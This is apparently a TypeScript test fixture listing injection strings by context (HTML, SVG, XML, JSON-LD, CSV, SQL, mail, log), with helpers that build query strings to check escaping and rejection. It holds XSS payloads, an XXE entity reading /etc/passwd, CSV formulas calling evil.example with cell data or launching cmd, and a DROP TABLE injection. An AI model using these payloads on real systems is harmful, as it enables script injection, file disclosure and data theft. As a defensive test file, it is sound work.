import { encoded, type Named } from './types';

/** Texts that would be more than a text in some place where they are shown, by place. */
export const texts: Named = {
  'HTML: a script': '<script>alert(1)</script>',
  'HTML: a script after the end of one': '</script><script>alert(1)</script>',
  'HTML: a picture after the end of a title': '</title><img src=x onerror=alert(1)>',
  'HTML: an attribute after a quote': '" onmouseover="alert(1)',
  'HTML: an attribute after an apostrophe': "' autofocus onfocus='alert(1)",
  'HTML: an attribute without quotes': 'x onclick=alert(1) y',
  'HTML: an attribute after a backtick': '`onclick=alert(1)',
  'HTML: the end of a text field': '</textarea><img src=x onerror=alert(1)>',
  'HTML: the end of a style': '</style><link rel=stylesheet href=//evil.example>',
  'HTML: a frame with a page in it': '<iframe srcdoc="<script>alert(1)</script>">',
  'HTML: another base': 'javascript:alert(1)//"><base href=//evil.example>',
  'HTML: a form to elsewhere': '"><form action=//evil.example><button>Go',
  'HTML: a way on after a second': '<meta http-equiv=refresh content=0;url=//evil.example>',
  'HTML: a comment': '--><!--<!--[--><!--]-->',
  'HTML: a comment of a template': '<!--[!--><!--[-1--><!---->',
  'HTML: a comment that ends oddly': '--!><img src=x onerror=alert(1)>',
  'HTML: entities': '&lt;script&gt;&#60;b&#x3e;&quot;&NewLine;',
  'HTML: an entity without an end': '&lt &amp &notit; &#',
  'HTML: an element broken by a null': '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  'HTML: an element in full width': '＜script＞alert(1)＜/script＞',
  'HTML: an address that is a script': 'javascript:alert(1)',
  'HTML: a script broken by a tab': 'java\tscript:alert(1)',
  'HTML: expressions of templates': '{@html x}${x}{{x}}<%= x %>',
  'SVG: a picture that runs': "'><svg/onload=alert(1)>",
  'SVG: HTML within it': '</text><foreignObject><body onload=alert(1)></foreignObject>',
  'SVG: another picture': '</title><image href="//evil.example/x.png"/><use href="#a"/>',
  'SVG: a movement to a script': '<animate attributeName=href values=javascript:alert(1) />',
  'SVG: a link to a script': '<a xlink:href="javascript:alert(1)">',
  'SVG: a style': '</desc><style>*{fill:url(//evil.example)}</style>',
  'XML: the end of a section': ']]><![CDATA[<x>-->',
  'XML: a section without an end': '<![CDATA[',
  'XML: an entity of its own': '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
  'XML: an instruction': '?><?xml-stylesheet href="//evil.example"?>',
  'XML: letters it cannot hold': ']]>\u0001\u000b\u0085\u200b\ue000\ufffd\ufffe',
  'JSON-LD: the end of a script': '</script><script type="application/ld+json">{"@id":"x"}',
  'JSON-LD: the end of a text': '"},"@graph":[{"@type":"Product"}],"x":{"y":"',
  'JSON-LD: the beginning of a comment': '<!--<script>',
  'JSON-LD: lines of an older parser': '\u2028\u2029\\u003c/script\\u003e\\',
  'JSON-LD: an odd backslash': '\\"\\',
  'CSV: a formula': '=HYPERLINK("http://evil.example?"&A1,"x")',
  'CSV: a command': "=cmd|' /C calc'!A0",
  'CSV: a sum': '+1+1',
  'CSV: a difference': '-2+3+cmd|calc',
  'CSV: a name': '@SUM(1+9)*cmd|calc',
  'CSV: a formula after a tab': '\t=1+1',
  'CSV: a formula after a space': ' =1+1',
  'CSV: a formula in full width': '＝1+1',
  'CSV: a formula after a quote': '"=1+1',
  'CSV: a field and a line': 'x","=1+1\r\n=2+2,"y',
  'CSV: a separator of its own': 'sep=;\r\na;=1+1',
  'SQL: the end of a text': "'; DROP TABLE links; --",
  'a log: a line of its own': 'x\r\n{"level":"error","request":"forged"}',
  'a mail: a header': 'x\r\nBcc: a@evil.example',
  'a text of braces': '}}}}{{{{%s%n%x{0}$1',
};

/** Where a comparison and a lesson take a text as it is. */
export const accepted = (text: string): string => {
  const t = encoded(text);
  const step = `1.a=3&1.a.name=${t}&1.say=${t}&1.ask=${t}&1.to=2040`;
  return `title=${t}&a=3&a.name=${t}&a.lever=digital_2_2027_5*${t}&b=trend&b.name=${t}&to=2040&${step}`;
};

/** Where a text is no word that could be read, a few a query: many faults hide one another. */
export const refused = (text: string): readonly string[] => {
  const t = encoded(text);
  return [
    `series=${t}&a=${t}&scale=${t}&to=${t}&lang=${t}&theme=${t}`,
    `${t}=${t}&a.lever=${t}_1_2027_5&1.a=${t}&unit=${t}&step=${t}&format=${t}`,
  ];
};
